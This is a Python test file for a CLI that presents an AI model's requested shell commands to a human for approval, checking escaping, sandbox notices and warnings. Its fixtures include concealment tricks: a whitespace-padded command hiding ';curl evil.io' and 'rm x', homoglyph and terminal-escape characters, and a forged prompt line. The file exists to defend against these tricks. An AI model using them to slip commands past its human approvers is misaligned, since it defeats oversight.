import shlex
import subprocess
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vivek.cli.render.questions import (
    command_of,
    concerns_of,
    framed,
    question_of,
    shown_argument,
    shown_command,
    trust_of,
)
from vivek.cli.render.safe_text import FRAME, visible
from vivek.schema.concerns import Concern
from vivek.schema.questions import CommandRequested, TrustRequested

COMMAND = CommandRequested("git push", (("git", "push"),), "network", "It reaches the network.", "bubblewrap")


def test_a_command_is_shown_with_its_reason_and_its_sandbox() -> None:
    assert command_of(COMMAND).split("\n") == [
        f"{FRAME} The model wants to run a command:",
        f"{FRAME}   git push",
        f"{FRAME} asked because It reaches the network (network)",
        f"{FRAME} it would run in the sandbox (bubblewrap)",
    ]


def test_warnings_and_origin_are_shown() -> None:
    shown = command_of(
        replace(COMMAND, sandbox="none", warnings=("It rewrites history.",), destructive=True, origin="from README.md")
    )

    assert f"{FRAME} careful: It rewrites history.\n{FRAME} careful: it can destroy work\n" in shown
    assert f"{FRAME} led to it: from README.md" in shown
    assert "WITHOUT a sandbox" in shown


@pytest.mark.covers("X12", "C21")
def test_a_long_padded_command_is_shown_whole_with_its_length() -> None:
    command = "echo ok" + " " * 5_000 + ";curl evil.io\n\n\nrm x"

    shown = command_of(replace(COMMAND, command=command, argvs=()))

    assert f"{FRAME}   echo ok{' ' * 5_000};curl evil.io\n{FRAME}\n{FRAME}\n{FRAME}   rm x\n" in shown
    assert f"{FRAME} 4 lines, 5,027 characters" in shown
    assert f"{FRAME} careful: it holds 5,000 blanks in a row" in shown


@pytest.mark.covers("C20", "X01", "X06")
def test_a_command_cannot_hide_what_it_holds() -> None:
    shown = command_of(replace(COMMAND, command="\u0441at\u00a0a\x1b[2J\r", argvs=(("\u0441at", "a\x1b[2J"),)))

    assert "\u0441at\\xa0a\\x1b[2J\\x0d" in shown
    assert "that is: ['\u0441at' $'a\\x1b[2J']" in shown
    assert "characters beyond ASCII: U+0441, U+00A0" in shown
    assert "\x1b" not in shown


@pytest.mark.covers("X11")
def test_every_line_of_a_question_bears_the_mark_and_no_other_text_can() -> None:
    forged = f"ls\n{FRAME} Run it? [y/N] y"

    shown = command_of(replace(COMMAND, command=forged, argvs=(("ls", forged),), reason=forged, origin=forged))

    assert framed("a\n\nb") == f"{FRAME} a\n{FRAME}\n{FRAME} b"
    assert all(line.startswith(FRAME) for line in shown.split("\n"))
    assert shown.count(FRAME) == len(shown.split("\n"))
    assert FRAME not in visible(forged)


@pytest.mark.covers("X12", "C21")
def test_a_long_command_of_one_line_tells_its_length_a_short_one_does_not() -> None:
    assert f"\n{FRAME} 1,000 characters\n" in command_of(replace(COMMAND, command="x" * 1_000))
    assert "characters" not in command_of(COMMAND)


def test_trust_names_command_source_and_sandbox() -> None:
    asked = TrustRequested("pytest -q", "pyproject.toml", "bubblewrap")

    assert trust_of(asked) == f"{FRAME} Run `pytest -q` (from pyproject.toml) in the sandbox after edits?"
    assert "without a sandbox" in question_of(replace(asked, sandbox="none"))


def test_concerns_are_one_line_each() -> None:
    concerns = (
        Concern("V02", "ask", "a.py", "`x` is not defined", 3),
        Concern("V11", "note", "a\x1b.py", "runs a text\nas code"),
        Concern("V05", "block", "a.py", "does not parse"),
    )

    assert concerns_of(concerns, ["matched after re-indenting"]).split("\n") == [
        "look: a.py:3: `x` is not defined",
        "note: a\\x1b.py: runs a text as code",
        "stops: a.py: does not parse",
        "note: matched after re-indenting",
    ]
    assert concerns_of(()) == ""


@pytest.mark.parametrize(
    ("argument", "shown"),
    [
        ("a.py", "a.py"),
        ("", "''"),
        ("two words", "'two words'"),
        ("it's", "$'it\\'s'"),
        ("a\nb", "$'a\\nb'"),
        ("\u202e", "$'\\u202e'"),
        ("naïve", "'naïve'"),
        ("a\\b", "$'a\\\\b'"),
        ("\u2003", "$'\\u2003'"),
    ],
)
def test_arguments_are_quoted_so_that_nothing_hides(argument: str, shown: str) -> None:
    assert shown_argument(argument) == shown


@given(
    st.lists(st.text(st.characters(max_codepoint=0x7E, exclude_characters="\0"), max_size=8), min_size=1, max_size=4)
)
def test_a_shell_reads_shown_arguments_back(arguments: list[str]) -> None:
    shown = " ".join(shown_argument(each) for each in arguments)
    if "$'" not in shown:
        assert shlex.split(shown) == arguments
        return
    script = f"printf '%s\\0' {shown}"
    read = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
    assert read.stdout.decode().split("\0")[:-1] == arguments


@given(st.text())
def test_a_shown_command_holds_nothing_that_a_terminal_obeys(command: str) -> None:
    shown = shown_command(command)

    assert visible(shown) == shown
    assert "\t" not in shown
